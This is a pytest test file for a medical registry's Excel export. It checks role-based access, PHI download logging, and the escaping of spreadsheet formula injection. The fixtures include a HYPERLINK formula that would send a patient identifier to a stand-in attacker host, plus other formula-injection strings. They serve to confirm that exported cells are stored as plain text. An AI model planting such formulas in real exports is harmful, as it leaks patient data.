"""The registry workbook export: who may have it, what it holds, and cells a spreadsheet cannot run."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from outcomes import services as outcome_services
from registry.models import PhiAccess
from registry.tests.api_support import client_for
from registry.tests.factories import EncounterFactory, PatientFactory, ProcedureFactory

pytestmark = pytest.mark.django_db

URL = "/api/exports/registry.xlsx"


@pytest.fixture
def records(site_a, site_b):
    a = PatientFactory(
        site=site_a,
        mrn="=1+2",
        primary_cancer="other",
        primary_cancer_detail='=HYPERLINK("http://evil.example/?d="&B2,"x")',
    )
    procedure = ProcedureFactory(patient=a, date=datetime.date(2023, 3, 1), cement_volume_ml=Decimal("12.5"))
    EncounterFactory(procedure=procedure, kind="baseline", date=datetime.date(2023, 2, 27), msts_gait=None)
    EncounterFactory(procedure=procedure, kind="followup", date=datetime.date(2023, 3, 31))
    outcome_services.complication_create(
        user=None, procedure=procedure, date=datetime.date(2023, 4, 2), kind="other", description="@SUM(1+1)*cmd"
    )
    outcome_services.secondary_procedure_create(
        user=None, procedure=procedure, date=datetime.date(2023, 5, 2), kind="radiation", reason="-3 then +x"
    )
    outcome_services.visit_not_done_create(
        user=None, procedure=procedure, visit="month3", reason="other", note="=moved away"
    )
    b = PatientFactory(site=site_b, mrn="B-1")
    ProcedureFactory(patient=b, treatment="sacroplasty", date=datetime.date(2023, 1, 5))
    return a, b


def sheets_of(response) -> dict[str, list[tuple]]:
    assert response.status_code == 200, response.content
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def test_an_admin_gets_every_record_sheet_by_sheet_and_the_download_is_logged(personas, records):
    response = client_for(personas["root"]).get(URL)

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="registry.xlsx"'
    assert response["Cache-Control"] == "no-store"
    sheets = sheets_of(response)
    assert list(sheets) == [
        "patients",
        "procedures",
        "screws",
        "encounters",
        "secondary_procedures",
        "complications",
        "visits_not_done",
    ]
    a, b = records
    assert sheets["patients"][0] == (
        "site",
        "mrn",
        "study_id",
        "birth_date",
        "sex",
        "primary_cancer",
        "primary_cancer_detail",
        "death_date",
    )
    assert [row[:3] for row in sheets["patients"][1:]] == [("SITEA", "'=1+2", a.study_id), ("SITEB", "B-1", b.study_id)]
    assert sheets["procedures"][1] == (
        "SITEA",
        "'=1+2",
        datetime.datetime(2023, 3, 1),
        "psfs",
        "pathological",
        "none",
        False,
        "orthopaedics",
        12.5,
        None,
        None,
    )
    assert sheets["screws"][1:] == [
        ("SITEA", "'=1+2", datetime.datetime(2023, 3, 1), "psfs", "S1", "transsacral", "left", 7.3, None, True)
    ]
    assert sheets["encounters"][0][:6] == ("site", "mrn", "procedure_date", "procedure_treatment", "date", "kind")
    assert [row[5] for row in sheets["encounters"][1:]] == ["baseline", "followup"]
    assert [row[12] for row in sheets["encounters"][1:]] == [None, 18]  # msts_total
    assert sheets["complications"][1][-2:] == ("'@SUM(1+1)*cmd", False)
    assert sheets["secondary_procedures"][1][-1] == "'-3 then +x"
    assert sheets["visits_not_done"] == [
        ("site", "mrn", "procedure_date", "procedure_treatment", "visit", "reason", "note"),
        ("SITEA", "'=1+2", datetime.datetime(2023, 3, 1), "psfs", "month3", "other", "'=moved away"),
    ]
    log = PhiAccess.objects.get()
    assert (log.username, log.action, log.what) == ("root", PhiAccess.Action.EXPORT_IDENTIFIED, "registry.xlsx")


def test_text_cells_are_never_formulas(personas, records):
    response = client_for(personas["root"]).get(URL)
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    details = book["patients"]["G2"]
    assert "f" not in kinds
    assert (details.value, details.data_type) == ('\'=HYPERLINK("http://evil.example/?d="&B2,"x")', "s")


def test_a_clinician_gets_the_records_of_their_sites_only(personas, records):
    sheets = sheets_of(client_for(personas["alice"]).get(URL))

    assert [row[:2] for row in sheets["patients"][1:]] == [("SITEA", "'=1+2")]
    assert [row[3] for row in sheets["procedures"][1:]] == ["psfs"]
    assert PhiAccess.objects.get().username == "alice"


def test_investigators_and_anonymous_clients_are_refused(personas, records):
    refused = client_for(personas["ivy"]).get(URL)
    anonymous = client_for().get(URL)

    assert (refused.status_code, refused.json()) == (
        403,
        {"detail": "Investigators may use only the de-identified exports."},
    )
    assert anonymous.status_code == 401
    assert not PhiAccess.objects.exists()
